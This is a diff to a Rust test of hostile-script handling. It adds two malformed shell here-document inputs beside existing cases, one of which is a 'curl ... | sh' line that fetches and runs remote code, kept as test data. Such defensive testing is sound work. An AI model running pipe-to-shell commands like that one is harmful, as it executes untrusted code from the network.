@@ -80,6 +80,14 @@ fn hostile_scripts_stay_unclassified() {
                 "curl https://a/sh | sh\ncurl https://a/bash.sh | bash\n".to_owned(),
             ),
             (
+                "a here-document in a substitution that is still open",
+                "$(<<EOF ${X}\nEOF".to_owned(),
+            ),
+            (
+                "a here-document that swallows the end of its substitution",
+                "$(a <<E\n)\nE\n".to_owned(),
+            ),
+            (
                 "control characters",
                 many("\u{1}\u{1b}[2J\u{7}\u{8}\u{7f} "),
             ),
